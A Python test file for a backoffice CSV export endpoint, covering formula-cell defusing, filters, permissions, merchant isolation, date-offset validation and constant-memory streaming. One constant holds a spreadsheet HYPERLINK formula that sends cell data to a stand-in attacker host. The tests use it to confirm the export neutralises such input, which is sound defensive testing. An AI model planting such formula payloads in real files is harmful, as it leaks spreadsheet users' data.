"""GET /v1/inquiries/export: CSV parsed back, formula cells defused, filters, constant memory."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import UTC, datetime

import httpx
import psutil  # type: ignore[import-untyped]
import psycopg

from services.backoffice.exports.repository import HEADER
from tests.backoffice.conftest import auth, create, new_merchant
from tests.support import Database, ServiceProcess

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


def export(api: httpx.Client, merchant: str, **params: str) -> httpx.Response:
    return api.get("/v1/inquiries/export", params=params, headers=auth("u1", merchant))


def test_csv_parses_back_with_formulas_defused(api: httpx.Client) -> None:
    merchant = new_merchant()
    evil = create(
        api,
        merchant,
        name=HYPERLINK,
        phone="+84 90 123 4567",
        subject="-1+2",
        business_name="@SUM(A1)",
        message='Line one, "quoted"\nline two',
    )
    plain = create(api, merchant, name="Bình Nguyễn", email="binh@example.com")
    response = export(api, merchant)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    today = datetime.now(UTC).date().isoformat()
    assert response.headers["content-disposition"] == (
        f'attachment; filename="inquiries-{merchant}-{today}.csv"'
    )
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == HEADER
    assert {"id", "name", "email", "status", "due_at", "overdue", "duplicate_of"} <= set(HEADER)
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [r["id"] for r in records] == [plain["id"], evil["id"]]  # newest first
    bad = records[1]
    assert bad["name"] == "'" + HYPERLINK
    assert bad["phone"] == "'+84 90 123 4567"
    assert bad["subject"] == "'-1+2"
    assert bad["business_name"] == "'@SUM(A1)"
    assert bad["message"] == 'Line one, "quoted"\nline two'
    good = records[0]
    assert good["name"] == "Bình Nguyễn"
    assert good["status"] == "NEW"
    assert good["overdue"] == "false"
    assert good["duplicate_of"] == ""
    assert datetime.fromisoformat(good["due_at"]) == datetime.fromisoformat(plain["due_at"])
    assert json.loads(good["source"]) == plain["source"]


def test_the_listing_filters_apply(api: httpx.Client) -> None:
    merchant = new_merchant()
    first = create(api, merchant, business_name="Alpha Co")
    create(api, merchant, business_name="Beta Co", email="b@example.com")
    api.post(f"/v1/inquiries/{first['id']}/assign", headers=auth("u1", merchant))

    def ids(**params: str) -> list[str]:
        rows = list(csv.DictReader(io.StringIO(export(api, merchant, **params).text)))
        return [row["id"] for row in rows]

    assert ids(status="ASSIGNED") == [first["id"]]
    beta = ids(q="beta")
    assert len(beta) == 1
    assert first["id"] not in beta
    assert ids(sort="created_at") == [first["id"], *beta]
    assert ids(status="CONVERTED") == []
    empty = export(api, merchant, status="CONVERTED")
    assert list(csv.reader(io.StringIO(empty.text))) == [HEADER]
    assert export(api, merchant, status="BOGUS").status_code == 400
    assert export(api, merchant, overdue="perhaps").status_code == 400
    forbidden = api.get(
        "/v1/inquiries/export", headers=auth("u1", merchant, ["inquiry.find_by_id"])
    )
    assert forbidden.status_code == 403
    # Another merchant's export never holds these.
    assert first["id"] not in export(api, new_merchant()).text


def test_any_rfc3339_offset_filters_and_a_refused_one_is_400_not_a_broken_file(
    api: httpx.Client,
) -> None:
    # Schemathesis found it: PostgreSQL refuses offsets beyond ±15:59, and the download broke
    # off mid-body after its 200.
    merchant = new_merchant()
    created = create(api, merchant)
    later = export(api, merchant, created_before="2999-01-30T02:47:28.971+21:44")
    assert later.status_code == 200, later.text
    assert created["id"] in later.text
    earlier = export(api, merchant, created_before="0490-01-30T02:47:28.971+21:44")
    assert list(csv.reader(io.StringIO(earlier.text))) == [HEADER]
    for path in ("/v1/inquiries/export", "/v1/inquiries", "/v1/inquiries/count"):
        params = {"created_after": "0001-01-01T00:00:00+21:44"}
        refused = api.get(path, params=params, headers=auth("u1", merchant))
        assert refused.status_code == 400, refused.text
        assert [e["field"] for e in refused.json()["errors"]] == ["created_after"]


ROWS = 200_000
# 200k rows of about 500 bytes: a 95 MiB file, generated in one statement (ids in order:
# appending to the primary key's index is far cheaper than 200k random inserts).
_GENERATE = """
INSERT INTO inquiries (id, merchant_id, type, name, email, business_name, subject, message,
                       locale, status, created_at, updated_at, due_at, lost_at, lost_reason)
SELECT ('00000000-0000-7000-8000-' || lpad(to_hex(g), 12, '0'))::uuid, %s, 'sales',
       'Lead ' || g, 'lead' || g || '@example.com', 'Acme', 'Subject ' || g,
       repeat('m', 250), 'en', 'LOST', now() - g * interval '1 second', now(), now(), now(),
       'no_budget'
FROM generate_series(1, %s) AS g
"""


def test_200k_rows_stream_in_constant_memory(
    own_backoffice: ServiceProcess, own_db: Database
) -> None:
    merchant = new_merchant()
    started = time.monotonic()
    with psycopg.connect(own_db.url, autocommit=True) as conn:
        conn.execute(_GENERATE, (merchant, ROWS))
    generated = time.monotonic() - started
    assert own_backoffice.process is not None
    process = psutil.Process(own_backoffice.process.pid)
    with httpx.Client(base_url=own_backoffice.url, timeout=60) as client:
        warm = client.get("/v1/inquiries/export", headers=auth("u1", new_merchant()))
        assert warm.status_code == 200
        before = process.memory_info().rss
        peak, size, lines = before, 0, 0
        with client.stream("GET", "/v1/inquiries/export", headers=auth("u1", merchant)) as response:
            assert response.status_code == 200
            for chunk in response.iter_bytes():
                size += len(chunk)
                lines += chunk.count(b"\n")
                peak = max(peak, process.memory_info().rss)
        seconds = time.monotonic() - started
    growth = (peak - before) / 2**20
    print(
        f"200k rows generated in {generated:.1f} s, exported ({size / 2**20:.0f} MiB) in "
        f"{seconds - generated:.1f} s; "
        f"backoffice RSS {before / 2**20:.0f} MiB, +{growth:.1f} MiB at peak"
    )
    assert lines == ROWS + 1  # the header, then one line per row (no newline inside them)
    assert size > 90 * 2**20
    assert growth < 40, f"RSS grew by {growth:.1f} MiB while streaming {size / 2**20:.0f} MiB"
